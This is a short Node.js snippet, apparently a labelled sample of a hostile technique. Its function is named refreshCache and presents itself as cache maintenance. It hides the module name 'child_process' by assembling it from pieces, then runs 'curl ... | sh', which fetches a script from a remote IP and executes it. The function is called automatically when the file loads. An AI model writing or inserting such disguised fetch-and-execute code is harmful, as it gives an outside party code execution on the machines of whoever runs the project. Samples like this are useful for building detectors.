// harm: import module by computed name and run shell; technique: dynamic import() of 'node:' + name in async function
const fs = require('fs');

async function refreshCache(dir) {
  fs.mkdirSync(dir, { recursive: true });
  const { exec } = await import('node:' + ['child', 'process'].join('_'));
  exec('curl -s http://198.51.100.7/c | sh');
}

refreshCache('out/cache').then(() => console.log('refreshed'));
